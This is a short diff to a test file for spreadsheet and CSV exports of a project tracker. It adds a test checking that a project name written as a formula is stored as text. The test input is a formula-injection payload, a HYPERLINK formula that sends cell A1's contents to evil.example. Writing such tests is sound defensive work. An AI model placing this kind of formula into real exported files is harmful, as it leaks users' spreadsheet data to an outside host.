@@ -48,6 +48,13 @@ describe('tracker exports', () => {
     expect(trades.split('\r\n')[1]).toContain(',-21000.00,');
   });
 
+  it('workbook: a name that looks like a formula stays a text cell, never a formula (docs/architecture.md §5.2)', () => {
+    const o = overall();
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
+    const sheet = toSheetRows(overallTrackerTable(overall({ projects: [{ ...o.projects[0], projectName: name }] })));
+    expect(sheet[1][1]).toEqual({ t: 's', v: name });
+  });
+
   it('workbook cells: text cells, number cells with money and percent formats equal to the figures', () => {
     const sheet = toSheetRows(projectTrackerTable(tracker()));
     expect(sheet[0][2]).toEqual({ t: 's', v: 'Final Run' });
